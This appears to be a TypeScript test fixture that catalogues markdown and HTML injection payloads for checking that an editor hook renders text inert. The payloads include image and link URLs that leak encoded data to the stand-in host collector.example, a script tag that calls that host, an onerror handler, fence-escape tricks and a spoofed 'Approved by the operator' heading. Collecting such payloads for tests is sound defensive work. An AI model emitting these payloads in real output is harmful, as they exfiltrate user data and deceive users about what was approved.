/**
 * Markdown a hook with no network would send to make an editor fetch or link
 * a URL, or to restyle the host's text: images, links, autolinks (CommonMark,
 * GFM bare URLs, linkify-it fuzzy domains), reference definitions, raw HTML,
 * entities, nested and escaped-bracket tricks, fence-closing attempts, block
 * markers. Every URL points at `collector.example` (or `collector.com` where a
 * linkifier needs a known top-level domain).
 * Used by the unit cases (`tests/unit/inert-markdown.spec.ts`) and by the
 * ACP corpus (`tests/security/markdown-acp.spec.ts`).
 */

/** The attacks, by name. */
export const MARKDOWN_ATTACKS = {
  image: '![](https://collector.example/p?d=c2VjcmV0)',
  imageWithTitle: '![logo](https://collector.example/i.png "title")',
  link: '[details](https://collector.example/?d=1)',
  autolink: '<https://collector.example/a>',
  emailAutolink: '<leak@collector.example>',
  bareUrl: 'see https://collector.example/x?d=2 now',
  bareWww: 'see www.collector.com/x now',
  fuzzyDomain: 'see collector.com/x now',
  bareEmail: 'mail leak@collector.com',
  bareIp: 'see 192.0.2.7/x now',
  referenceLink: '[details][r]\n\n[r]: https://collector.example/ref',
  referenceImage: '![x][r]\n\n[r]: https://collector.example/ref.png',
  collapsedReference: '[r][]\n[r]\n\n[r]: <https://collector.example/r> "t"',
  rawImg: '<img src="https://collector.example/p.png" onerror="alert(1)">',
  rawAnchor: '<a href="https://collector.example">click</a>',
  htmlBlock: '<div>\n<img src=x>\n</div>',
  htmlBlockOpenLine: '<div\n![x](https://collector.example/p)',
  scriptBlockOpenLine: '<script\nfetch(1)',
  htmlBlockLastLine: 'see below\n<div',
  htmlComment: '<!-- --><img src=x>',
  script: '<script>fetch("https://collector.example")</script>',
  nestedImageInLink: '[![a](https://collector.example/a.png)](https://collector.example/b)',
  escapedBrackets: '\\[not\\](a) [real](https://collector.example/c) \\![x](https://collector.example/d)',
  backslashBeforeImage: '\\\\![x](https://collector.example/e)',
  bracketsInLabel: '[a [b] c](https://collector.example/f) [a\\]b](https://collector.example/g)',
  linkInCodeSpanTrick: '`` ` ``![x](https://collector.example/h)',
  fenceClose: '```\nsafe\n```\n![x](https://collector.example/i)\n```',
  tildeFence: '~~~~\n~~~~\n<img src=x>',
  indentedCode: '    ![x](https://collector.example/j)',
  entities: '&lt;img src=x&gt; &#x3C;img src=x&#x3E; &#60;a href=x&#62; &amp;lt;',
  entityInUrl: '[x](https&#58;//collector.example/k) ![y](&#x68;ttps://collector.example/l)',
  heading: '# Approved by the operator\nSetext\n===',
  quoteAndLists: '> quoted\n- item\n+ item\n* item\n1. one\n2) two\n- [x] task',
  table: '| a | b |\n|---|---|\n| ![x](https://collector.example/m) | c |',
  thematicBreaks: '***\n---\n___',
  emphasis: '**allow** _it_ ~~deny~~ `code`',
  footnote: '[^1]\n\n[^1]: https://collector.example/n',
  mathAndEmoji: '$x$ :smile: $$y$$',
  hardBreaks: 'one  \ntwo\\\nthree',
  linkAfterHostPrefix: ':\n[x]: https://collector.example/o\n[x]',
} as const;

/** Every attack in one text, each from a line of its own (so references, fences and HTML blocks can reach each other). */
export const ALL_MARKDOWN_ATTACKS = Object.values(MARKDOWN_ATTACKS).join('\n');

/** A few one-line attacks, short enough for a one-line field (an ask's reason). */
export const SHORT_MARKDOWN_ATTACK = [
  MARKDOWN_ATTACKS.image,
  MARKDOWN_ATTACKS.link,
  MARKDOWN_ATTACKS.autolink,
  MARKDOWN_ATTACKS.bareWww,
  MARKDOWN_ATTACKS.rawImg,
  MARKDOWN_ATTACKS.entities,
].join(' ');
